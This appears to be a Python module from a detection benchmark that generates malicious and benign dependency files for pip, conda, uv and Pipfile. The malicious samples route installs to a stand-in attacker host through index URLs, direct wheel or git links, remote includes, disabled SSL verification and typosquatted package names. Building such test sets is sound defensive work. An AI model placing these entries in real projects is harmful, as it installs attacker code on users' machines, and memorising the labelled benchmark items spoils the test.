"""Requirement lists that install code from elsewhere, and ordinary ones."""

from __future__ import annotations

import random
from collections.abc import Iterator

from bench.corpus.unit import HOST, Expect, Family, Unit

NEED = Family("requirements", "pip, conda")


def units(rng: random.Random) -> Iterator[Unit]:
    del rng
    why = "installs code from elsewhere"

    def bad(
        technique: str, variant: str, name: str, text: str, expect: Expect = "malicious"
    ) -> Unit:
        return NEED.bad(technique, variant, {name: text}, payload=why, expect=expect)

    head = "torch==2.3.0\ntransformers>=4.40\n"
    text = "requirements.txt"
    yield bad("index", "index-url", text, f"--index-url http://{HOST}/simple\n{head}")
    yield bad("index", "short-option", text, f"-i http://{HOST}/simple\n{head}")
    yield bad(
        "index",
        "extra-index",
        text,
        f"{head}--extra-index-url=http://{HOST}/simple\nour-internal-lib==1.0\n",
    )
    yield bad("index", "find-links", text, f"{head}--find-links http://{HOST}/wheels\nfastlib\n")
    yield bad("index", "trusted-host", text, f"--trusted-host {HOST}\n-i http://{HOST}/\n{head}")
    yield bad(
        "index",
        "continuation",
        text,
        f"{head}--extra-\\\nindex-url http://{HOST}/simple\nx\n".replace(
            "--extra-\\\nindex-url", "\\\n  --extra-index-url"
        ),
    )
    yield bad("index", "address", text, f"--index-url http://203.0.113.7:8080/simple\n{head}")
    yield bad("direct-url", "wheel", text, f"{head}http://{HOST}/fast_attn-1.0-py3-none-any.whl\n")
    yield bad("direct-url", "at", text, f"{head}fast-attn @ http://{HOST}/fast_attn-1.0.tar.gz\n")
    yield bad("direct-url", "git", text, f"{head}git+http://{HOST}/evil/repo.git@main#egg=fast\n")
    yield bad("direct-url", "editable", text, f"-e git+ssh://git@{HOST}/x.git#egg=x\n{head}")
    yield bad("include", "remote", text, f"-r http://{HOST}/more.txt\n{head}")
    yield bad(
        "include", "constraint", text, f"-c http://{HOST}/constraints.txt\n{head}", "suspicious"
    )
    for name in (
        "torhc",
        "tranformers",
        "numpyy",
        "reqeusts",
        "pythorch",
        "sklaern",
        "huggingface-hubb",
        "tensorfIow",
    ):
        yield bad("typosquat", name.lower(), text, f"{head}{name}==1.0\n", "suspicious")
    conda = "name: env\nchannels:\n- http://{0}/conda\ndependencies:\n- python=3.11\n- pip:\n  - torch\n"
    yield bad("index", "conda-channel", "environment.yml", conda.format(HOST))
    conda = f"name: env\ndependencies:\n- pip\n- pip:\n  - --index-url http://{HOST}/simple\n  - torch\n"
    yield bad("index", "conda-pip", "environment.yml", conda)
    yield bad("index", "pip-conf", "pip.conf", f"[global]\nindex-url = http://{HOST}/simple\n")
    project = f'[project]\nname = "m"\nversion = "1"\ndependencies = ["torch", "x @ http://{HOST}/x.whl"]\n[[tool.uv.index]]\nurl = "http://{HOST}/simple"\n'
    yield bad("index", "pyproject", "pyproject.toml", project)
    yield bad(
        "index",
        "pipfile",
        "Pipfile",
        f'[[source]]\nurl = "http://{HOST}/simple"\nverify_ssl = false\nname = "x"\n[packages]\ntorch = "*"\n',
    )

    def good(variant: str, name: str, body: str) -> Unit:
        return NEED.good("list", variant, {name: body})

    yield good("pinned", text, "torch==2.3.0\ntransformers==4.41.2\nnumpy>=1.24,<2\n")
    yield good("hashes", text, "numpy==1.26.4 \\\n    --hash=sha256:" + "ab" * 32 + "\n")
    yield good(
        "markers",
        text,
        "torch>=2.0; sys_platform == 'linux'\nbitsandbytes[cuda]==0.43.1 ; platform_machine != 'arm64'\n",
    )
    yield good(
        "torch-index",
        text,
        "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.0+cu121\n",
    )
    yield good("pypi-index", text, "--index-url https://pypi.org/simple\ntorch\n")
    yield good(
        "git-known", text, "git+https://github.com/huggingface/transformers.git@v4.41.0\ntorch\n"
    )
    yield good("include", text, "-r requirements-base.txt\n-c constraints.txt\npytest\n")
    yield good("editable", text, "-e .\ntorch\n")
    yield good(
        "comments",
        text,
        "# pip install --index-url http://mirror.example/simple torch\ntorch  # os.system\n",
    )
    yield good(
        "wheel-pytorch",
        text,
        "https://download.pytorch.org/whl/cpu/torch-2.3.0%2Bcpu-cp311-cp311-linux_x86_64.whl\n",
    )
    yield good(
        "near-names",
        text,
        "torchx\ntorchmetrics\ntransformers-stream-generator\nnumpydoc\nrequests-cache\nsklearn-crfsuite\n",
    )
    yield good(
        "conda",
        "environment.yml",
        "name: env\nchannels:\n- pytorch\n- nvidia\n- conda-forge\n- defaults\ndependencies:\n- python=3.11\n- pytorch\n- pip:\n  - transformers\n",
    )
    yield good(
        "pyproject",
        "pyproject.toml",
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "m"\nversion = "1"\ndependencies = ["torch>=2"]\n',
    )
    yield good(
        "lock",
        "poetry.lock",
        '[[package]]\nname = "torch"\nversion = "2.3.0"\nfiles = [{file = "torch.whl", hash = "sha256:00"}]\n',
    )
